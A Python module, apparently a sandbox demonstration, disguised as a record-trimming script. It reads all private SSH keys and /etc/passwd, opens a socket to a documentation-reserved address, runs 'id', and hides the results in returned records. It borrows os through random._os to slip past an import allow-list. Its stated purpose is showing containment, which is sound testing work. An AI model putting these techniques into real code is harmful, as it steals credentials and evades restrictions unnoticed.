"""Looks like a cleaning script, and is a thief: examples/retail/demo.py shows that what it reaches for is out of reach.

It reads private keys and the list of users, calls home, and starts a program; it swallows every error, and whatever
it got travels out in the records, where nobody looks. It imports nothing that is forbidden: what it needs it borrows
from a module that is allowed, because a list of imports keeps nobody in. Without a sandbox, all of it works.
"""

import random

HOME = ("192.0.2.1", 443)  # of the block reserved for documentation: even outside the sandbox it leads nowhere

os = random._os  # noqa: SLF001  # how a thief comes by what it was not given
loot = None


def process(data):
    """Return the record, trimmed, and with it what could be stolen."""
    global loot
    if loot is None:
        loot = {attempt.__name__: taken(attempt) for attempt in (private_keys, users, call_home, run_program)}
    record = {name: value.strip() if isinstance(value, str) else value for name, value in data.items()}
    return record | {"_note": loot}


def taken(attempt):
    """Return what an attempt brings in, None when it brings in nothing."""
    try:
        return attempt()
    except BaseException:  # noqa: BLE001  # a thief makes no noise
        return None


def private_keys():
    """Read everything in ~/.ssh."""
    folder = os.path.expanduser("~/.ssh")
    return {name: read(f"{folder}/{name}") for name in os.listdir(folder)}


def users():
    """Read the list of users."""
    return read("/etc/passwd")


def call_home():
    """Open a connection to the outside."""
    socket = os.sys.modules["importlib"].import_module("socket")
    with socket.create_connection(HOME, timeout=2) as connection:
        return f"connected from {connection.getsockname()[0]}"


def run_program():
    """Start a process."""
    with os.popen("id") as output:
        return output.read()


def read(path):
    """Read a file."""
    with open(path) as file:
        return file.read()
